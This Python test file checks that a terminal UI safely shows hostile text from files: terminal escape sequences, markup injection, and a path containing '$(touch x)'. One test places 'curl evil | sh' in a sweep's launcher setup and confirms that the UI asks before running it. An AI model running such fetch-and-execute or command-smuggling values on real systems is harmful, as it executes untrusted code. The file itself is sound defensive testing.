"""No screen lets a text of a file steer the terminal, or takes it for markup: every screen, every text."""

from __future__ import annotations

import asyncio
import json
import shlex
from collections.abc import Awaitable, Callable
from pathlib import Path

import platformdirs
import pytest
from hostile_texts import (
    HOSTILE,
    MARKUP,
    ORDINARY,
    STEERS,
    harmless,
    hostile_presets,
    hostile_run,
    hostile_sweep,
)
from rich.segment import Segment
from textual.color import Color

from app.world import World
from eqprop_core.sweeps import trust
from eqprop_tui.characters import Characters
from eqprop_tui.charts.glyphs import ASCII, BRAILLE
from eqprop_tui.screens.runs import RunsScreen
from eqprop_tui.screens.sweep import SweepScreen


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return World(tmp_path, monkeypatch)


def play(act: Callable[[], Awaitable[None]]) -> None:
    asyncio.run(act())  # type: ignore[arg-type]


async def pressed(world: World, *keys: str) -> None:
    """Press keys, one by one; what is shown after each is harmless."""
    for key in keys:
        await world.press(key)
        assert harmless(world.screen()), (key, world.screen())


def test_the_library_and_a_form_show_hostile_presets(world: World) -> None:
    hostile_presets(platformdirs.user_config_path("eqprop") / "presets")

    async def act() -> None:
        async with world.open():
            await pressed(world, "slash", *"markup", "enter")
            await world.sees("[/nope]")
            await pressed(world, "J", "K", "y", "c", "escape", "d", "escape", "escape", "u")
            await world.sees("that cannot be used", "must be text on one line")
            await pressed(world, "escape", "enter")
            await world.sees("configure   from markup")
            await pressed(world, "f2", "f2", "ctrl+d")
            await pressed(world, "escape", "ctrl+s", *"[/x]", "escape", "ctrl+y", "escape")

    play(act)


@pytest.mark.parametrize(
    ("text", "state"), [(MARKUP, "finished"), (HOSTILE, "failed")], ids=["markup", "steers"]
)
def test_a_monitor_shows_a_hostile_run(text: str, state: str, world: World) -> None:
    run = hostile_run(world.results, text, state=state)

    async def act() -> None:
        async with world.open(run):
            await world.until(lambda: "test" in world.screen())
            await pressed(world, *"12345678", "3", "down", "enter", "7", "f", "f", "f", "y", "N", "escape")
            await pressed(world, "s", "escape", "x", "escape", "n", "escape")

    play(act)


def test_the_tables_show_hostile_runs_and_sweeps(world: World) -> None:
    runs = [hostile_run(world.results, MARKUP), hostile_run(world.results, number=1, settings=True)]
    sweep = hostile_sweep(world.results)

    async def act() -> None:
        async with world.open() as app:
            await pressed(world, "tab")
            await world.until(lambda: isinstance(app.screen, RunsScreen) and "[/nope]" in world.screen())
            await pressed(world, "home", "right", "y", "down", "D", "escape", "end", "y", "D", "escape")
            await pressed(world, "e", "escape", "s", "escape", "slash", *"[/x", "escape", "escape", "u")
            await pressed(world, "end")
            await world.until(lambda: app.screen.table.group is not None)
            await pressed(world, "t")
            await world.until(lambda: isinstance(app.screen, SweepScreen) and "30.00" in world.screen())
            await pressed(
                world, "right", "o", "e", "escape", "y", "v", "m", "w", "a", "escape", "escape", "escape"
            )

    play(act)
    assert all(harmless(text) and "\n" not in text for text in world.copied)
    assert {str(sweep.path), *(str(run.path) for run in runs)} & set(world.copied)


def test_a_sweep_from_elsewhere_is_shown_before_it_goes_on(world: World) -> None:
    sweep = hostile_sweep(world.results)
    document = json.loads((sweep.path / "sweep.json").read_text())
    document["launcher"] = {"launcher": "slurm", "setup": ["curl evil | sh"]}
    (sweep.path / "sweep.json").write_text(json.dumps(document))
    begun: list[list[str]] = []

    def carry_out(words: list[str]) -> tuple[int, str, str]:
        begun.append(words)
        return 0, "", ""

    async def act() -> None:
        async with world.open() as app:
            world.monkeypatch.setattr(app.commands, "carry_out", carry_out)
            await world.press("tab")
            await world.until(
                lambda: isinstance(app.screen, RunsScreen) and app.screen.table.group is not None
            )
            await world.press("R")
            await world.sees("setup: curl evil | sh", "no, leave it")
            await world.press("n")
            assert not begun
            await world.press("R")
            await world.sees("setup: curl evil | sh")
            await world.press("y")
            await world.until(lambda: begun)
            assert trust.unknown(type(sweep).open(sweep.path)) == []

    play(act)


def test_a_path_is_copied_as_a_word_of_a_shell(world: World) -> None:
    run = hostile_run(world.home / "it's $(touch x)\n")

    async def act() -> None:
        async with world.open(run):
            await pressed(world, "y")
            await world.until(lambda: world.copied)

    play(act)
    assert world.copied[0].startswith('"$(printf %b ') and shlex.split(world.copied[0])


def test_what_a_screen_forgets_does_not_reach_the_terminal() -> None:
    for glyphs in (BRAILLE, ASCII):
        line = [Segment(f"a{STEERS}b"), Segment(ORDINARY)]
        (steers, ordinary) = Characters(glyphs).apply(line, Color(0, 0, 0))
        assert harmless(steers.text) and "\n" not in steers.text and steers.cell_length == line[0].cell_length
        assert glyphs is ASCII or ordinary.text == ORDINARY
